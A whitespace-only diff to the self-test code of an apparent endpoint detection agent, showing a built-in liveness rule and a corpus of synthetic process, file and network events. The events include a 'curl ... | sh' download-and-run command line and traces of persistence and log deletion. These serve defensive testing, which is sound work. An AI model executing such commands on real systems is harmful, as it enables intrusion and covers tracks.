@@ -12,30 +12,28 @@
 #include "../lib/event_json.h"
 
 static const char builtin_yaml[] =
-	"rules:\n"
-	"  - id: " SELFTEST_LIVENESS_RULE "\n"
-	"    name: vigil detection liveness marker\n"
-	"    description: Built into vigil-agent. Raised by the synthetic event the agent passes\n"
-	"      through its live rule engine to prove that detection still works.\n"
-	"    level: informational\n"
-	"    condition:\n"
-	"      all:\n"
-	"        - event.action: exec\n"
-	"        - process.command_line: {startswith: \"" SELFTEST_LIVENESS_MARKER "\"}\n"
-	"    tests:\n"
-	"      match:\n"
-	"        - {event.action: exec, process.command_line: \"" SELFTEST_LIVENESS_MARKER
-	" 1\"}\n"
-	"      nomatch:\n"
-	"        - {event.action: exec, process.command_line: \"/bin/echo " SELFTEST_LIVENESS_MARKER
-	"\"}\n"
-	"        - {event.action: fork, process.command_line: \"" SELFTEST_LIVENESS_MARKER
-	" 1\"}\n";
+    "rules:\n"
+    "  - id: " SELFTEST_LIVENESS_RULE "\n"
+    "    name: vigil detection liveness marker\n"
+    "    description: Built into vigil-agent. Raised by the synthetic event the agent passes\n"
+    "      through its live rule engine to prove that detection still works.\n"
+    "    level: informational\n"
+    "    condition:\n"
+    "      all:\n"
+    "        - event.action: exec\n"
+    "        - process.command_line: {startswith: \"" SELFTEST_LIVENESS_MARKER "\"}\n"
+    "    tests:\n"
+    "      match:\n"
+    "        - {event.action: exec, process.command_line: \"" SELFTEST_LIVENESS_MARKER " 1\"}\n"
+    "      nomatch:\n"
+    "        - {event.action: exec, process.command_line: \"/bin/echo " SELFTEST_LIVENESS_MARKER
+    "\"}\n"
+    "        - {event.action: fork, process.command_line: \"" SELFTEST_LIVENESS_MARKER " 1\"}\n";
 
 static const struct rules_source builtin_source = {
-	.name = "vigil-agent/builtin.yml",
-	.data = builtin_yaml,
-	.len = sizeof(builtin_yaml) - 1,
+    .name = "vigil-agent/builtin.yml",
+    .data = builtin_yaml,
+    .len = sizeof(builtin_yaml) - 1,
 };
 
 const struct rules_source *selftest_builtin_source(void)
@@ -48,59 +46,59 @@ const struct rules_source *selftest_builtin_source(void)
  * must evaluate without an engine error, and none may raise the liveness rule.
  */
 static const char *const corpus[] = {
-	"{\"@timestamp\":\"2024-07-19T04:09:00.000000000Z\",\"event\":{\"kind\":\"event\","
-	"\"category\":\"process\",\"action\":\"exec\"},\"process\":{\"pid\":4242,"
-	"\"executable\":\"/usr/bin/ls\",\"name\":\"ls\",\"command_line\":\"ls -la /tmp\","
-	"\"args\":[\"ls\",\"-la\",\"/tmp\"],\"args_count\":3,\"working_directory\":\"/root\","
-	"\"parent\":{\"pid\":4000,\"executable\":\"/usr/bin/bash\",\"name\":\"bash\","
-	"\"command_line\":\"-bash\"},\"ancestors\":[\"/usr/bin/bash\",\"/usr/sbin/sshd\","
-	"\"/usr/lib/systemd/systemd\"]},\"user\":{\"id\":\"0\",\"name\":\"root\","
-	"\"effective\":{\"id\":\"0\"}}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"exec\"},"
-	"\"process\":{\"pid\":4243,\"executable\":\"/usr/bin/bash\",\"name\":\"bash\","
-	"\"command_line\":\"bash -c curl -s http://10.0.0.1/x.sh | sh\",\"args\":[\"bash\","
-	"\"-c\",\"curl -s http://10.0.0.1/x.sh | sh\"],\"working_directory\":\"/tmp\"},"
-	"\"user\":{\"id\":\"1000\",\"name\":\"alice\"}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"exec\"},"
-	"\"process\":{\"pid\":4244,\"executable\":\"/tmp/.x/" SELFTEST_LIVENESS_MARKER "\","
-	"\"name\":\"" SELFTEST_LIVENESS_MARKER "\",\"command_line\":\"./"
-	SELFTEST_LIVENESS_MARKER "\"}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"fork\"},"
-	"\"process\":{\"pid\":4245,\"parent\":{\"pid\":4243}}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"exit\"},"
-	"\"process\":{\"pid\":4245,\"exit_code\":137}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"network\",\"action\":\"connect\"},"
-	"\"process\":{\"pid\":4243,\"executable\":\"/usr/bin/curl\",\"name\":\"curl\"},"
-	"\"source\":{\"ip\":\"192.0.2.10\",\"port\":51234},\"destination\":{\"ip\":"
-	"\"198.51.100.7\",\"port\":443},\"network\":{\"transport\":\"tcp\",\"direction\":"
-	"\"egress\",\"type\":\"ipv4\"}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"network\",\"action\":\"accept\"},"
-	"\"process\":{\"pid\":812,\"executable\":\"/usr/sbin/sshd\",\"name\":\"sshd\"},"
-	"\"source\":{\"ip\":\"2001:db8::5\",\"port\":60000},\"destination\":{\"ip\":\"2001:db8::1\","
-	"\"port\":22},\"network\":{\"transport\":\"tcp\",\"direction\":\"ingress\","
-	"\"type\":\"ipv6\"}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"create\"},"
-	"\"process\":{\"pid\":4243,\"executable\":\"/usr/bin/bash\"},\"file\":{\"path\":"
-	"\"/etc/cron.d/evil\",\"name\":\"evil\",\"directory\":\"/etc/cron.d\",\"mode\":\"0644\"}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"write\"},"
-	"\"process\":{\"pid\":4243},\"file\":{\"path\":\"/root/.ssh/authorized_keys\","
-	"\"name\":\"authorized_keys\",\"directory\":\"/root/.ssh\"}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"rename\"},"
-	"\"process\":{\"pid\":4243},\"file\":{\"path\":\"/tmp/a\",\"name\":\"a\","
-	"\"directory\":\"/tmp\",\"target_path\":\"/usr/local/bin/a\"}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"delete\"},"
-	"\"process\":{\"pid\":4243},\"file\":{\"path\":\"/var/log/auth.log\"}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"chmod\"},"
-	"\"process\":{\"pid\":4243},\"file\":{\"path\":\"/tmp/a\",\"mode\":\"4755\"}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"driver\",\"action\":\"module-load\"},"
-	"\"process\":{\"pid\":1},\"kernel\":{\"module\":{\"name\":\"nf_tables\"}}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"ptrace\"},"
-	"\"process\":{\"pid\":4250,\"target\":{\"pid\":812,\"executable\":\"/usr/sbin/sshd\"}}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"host\",\"action\":\"setuid\"},"
-	"\"process\":{\"pid\":4251},\"user\":{\"id\":\"1000\",\"changes\":{\"id\":\"0\"}}}",
-	"{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"memfd-create\"},"
-	"\"process\":{\"pid\":4252},\"file\":{\"name\":\"memfd:payload\"}}",
-	"{\"event\":{\"kind\":\"event\",\"action\":\"exec\"}}",
+    "{\"@timestamp\":\"2024-07-19T04:09:00.000000000Z\",\"event\":{\"kind\":\"event\","
+    "\"category\":\"process\",\"action\":\"exec\"},\"process\":{\"pid\":4242,"
+    "\"executable\":\"/usr/bin/ls\",\"name\":\"ls\",\"command_line\":\"ls -la /tmp\","
+    "\"args\":[\"ls\",\"-la\",\"/tmp\"],\"args_count\":3,\"working_directory\":\"/root\","
+    "\"parent\":{\"pid\":4000,\"executable\":\"/usr/bin/bash\",\"name\":\"bash\","
+    "\"command_line\":\"-bash\"},\"ancestors\":[\"/usr/bin/bash\",\"/usr/sbin/sshd\","
+    "\"/usr/lib/systemd/systemd\"]},\"user\":{\"id\":\"0\",\"name\":\"root\","
+    "\"effective\":{\"id\":\"0\"}}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"exec\"},"
+    "\"process\":{\"pid\":4243,\"executable\":\"/usr/bin/bash\",\"name\":\"bash\","
+    "\"command_line\":\"bash -c curl -s http://10.0.0.1/x.sh | sh\",\"args\":[\"bash\","
+    "\"-c\",\"curl -s http://10.0.0.1/x.sh | sh\"],\"working_directory\":\"/tmp\"},"
+    "\"user\":{\"id\":\"1000\",\"name\":\"alice\"}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"exec\"},"
+    "\"process\":{\"pid\":4244,\"executable\":\"/tmp/.x/" SELFTEST_LIVENESS_MARKER "\","
+    "\"name\":\"" SELFTEST_LIVENESS_MARKER "\",\"command_line\":\"./" SELFTEST_LIVENESS_MARKER
+    "\"}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"fork\"},"
+    "\"process\":{\"pid\":4245,\"parent\":{\"pid\":4243}}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"exit\"},"
+    "\"process\":{\"pid\":4245,\"exit_code\":137}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"network\",\"action\":\"connect\"},"
+    "\"process\":{\"pid\":4243,\"executable\":\"/usr/bin/curl\",\"name\":\"curl\"},"
+    "\"source\":{\"ip\":\"192.0.2.10\",\"port\":51234},\"destination\":{\"ip\":"
+    "\"198.51.100.7\",\"port\":443},\"network\":{\"transport\":\"tcp\",\"direction\":"
+    "\"egress\",\"type\":\"ipv4\"}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"network\",\"action\":\"accept\"},"
+    "\"process\":{\"pid\":812,\"executable\":\"/usr/sbin/sshd\",\"name\":\"sshd\"},"
+    "\"source\":{\"ip\":\"2001:db8::5\",\"port\":60000},\"destination\":{\"ip\":\"2001:db8::1\","
+    "\"port\":22},\"network\":{\"transport\":\"tcp\",\"direction\":\"ingress\","
+    "\"type\":\"ipv6\"}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"create\"},"
+    "\"process\":{\"pid\":4243,\"executable\":\"/usr/bin/bash\"},\"file\":{\"path\":"
+    "\"/etc/cron.d/evil\",\"name\":\"evil\",\"directory\":\"/etc/cron.d\",\"mode\":\"0644\"}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"write\"},"
+    "\"process\":{\"pid\":4243},\"file\":{\"path\":\"/root/.ssh/authorized_keys\","
+    "\"name\":\"authorized_keys\",\"directory\":\"/root/.ssh\"}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"rename\"},"
+    "\"process\":{\"pid\":4243},\"file\":{\"path\":\"/tmp/a\",\"name\":\"a\","
+    "\"directory\":\"/tmp\",\"target_path\":\"/usr/local/bin/a\"}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"delete\"},"
+    "\"process\":{\"pid\":4243},\"file\":{\"path\":\"/var/log/auth.log\"}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"chmod\"},"
+    "\"process\":{\"pid\":4243},\"file\":{\"path\":\"/tmp/a\",\"mode\":\"4755\"}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"driver\",\"action\":\"module-load\"},"
+    "\"process\":{\"pid\":1},\"kernel\":{\"module\":{\"name\":\"nf_tables\"}}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"ptrace\"},"
+    "\"process\":{\"pid\":4250,\"target\":{\"pid\":812,\"executable\":\"/usr/sbin/sshd\"}}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"host\",\"action\":\"setuid\"},"
+    "\"process\":{\"pid\":4251},\"user\":{\"id\":\"1000\",\"changes\":{\"id\":\"0\"}}}",
+    "{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"memfd-create\"},"
+    "\"process\":{\"pid\":4252},\"file\":{\"name\":\"memfd:payload\"}}",
+    "{\"event\":{\"kind\":\"event\",\"action\":\"exec\"}}",
 };
 
 int selftest_marker_event(struct event *ev, uint64_t nonce)
@@ -150,8 +148,7 @@ int selftest_liveness_probe(struct engine *e, struct event *ev, uint64_t nonce, 
 	return p.liveness == 1;
 }
 
-int selftest_run(const struct ruleset *rs, struct selftest_result *res, char *err,
-		 size_t errlen)
+int selftest_run(const struct ruleset *rs, struct selftest_result *res, char *err, size_t errlen)
 {
 	struct rules_test_result tr;
 	struct engine_stats stats;
